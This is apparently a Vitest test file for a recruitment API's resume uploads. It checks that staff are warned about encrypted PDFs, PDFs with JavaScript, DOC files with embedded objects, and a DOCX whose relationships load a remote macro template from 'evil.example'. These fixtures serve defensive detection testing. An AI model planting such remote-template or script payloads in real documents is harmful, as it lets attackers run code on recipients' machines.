import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { resumeMimes } from '../../contract/resume.ts'
import { HOUR } from '../../contract/time.ts'
import { doc } from '../support/ole.ts'
import { type Api, openApi } from '../support/open-api.ts'
import { dataUrl, pdf, sampleJob, sampleMessage, samplePerson } from '../support/samples.ts'
import { wordEntries, zip } from '../support/zip.ts'

let api: Api
let jobId: string
beforeAll(async () => {
  api = await openApi()
  jobId = (await api.staff('POST', '/api/jobs', sampleJob)).json()._id
})
afterAll(() => api.close())
beforeEach(() => api.advance(HOUR))

const remote =
  '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'

test.each<[string, Buffer, string, string[]]>([
  ['a plain PDF', pdf, resumeMimes.pdf, []],
  ['an encrypted PDF', Buffer.from('%PDF-1.7\ntrailer << /Encrypt 5 0 R >>'), resumeMimes.pdf, ['encrypted']],
  ['a PDF with a script', Buffer.from('%PDF-1.7\n<< /S /JavaScript >>'), resumeMimes.pdf, ['scripts']],
  [
    'a DOCX with a remote template',
    zip([...wordEntries, { name: 'word/_rels/settings.xml.rels', content: remote }]),
    resumeMimes.docx,
    ['external'],
  ],
  ['a DOC with an object', doc({ name: 'ObjectPool', isStorage: true }), resumeMimes.doc, ['embedded']],
])('%s is stored, and staff are told with the application and the enquiry', async (_name, bytes, mime, warnings) => {
  const resume = dataUrl(bytes, mime)
  const applied = await api.post('/api/applications', { jobId, ...samplePerson, resume })
  expect([applied.statusCode, applied.body.includes('warnings')]).toEqual([201, false])
  const id = applied.json()._id
  expect((await api.staff('GET', `/api/applications/${id}`)).json().resume.warnings).toEqual(warnings)
  const listed = (await api.staff('GET', '/api/applications')).json()
  expect(listed.find((one: { _id: string }) => one._id === id).resume.warnings).toEqual(warnings)

  const sent = await api.post('/api/contact', {
    ...sampleMessage,
    resume: { filename: 'cv', content: resume, size: 1 },
  })
  expect([sent.statusCode, sent.body.includes('warnings')]).toEqual([201, false])
  const inbox = (await api.staff('GET', '/api/enquiries')).json()
  expect(inbox.find((one: { _id: string }) => one._id === sent.json()._id).resume.warnings).toEqual(warnings)
})
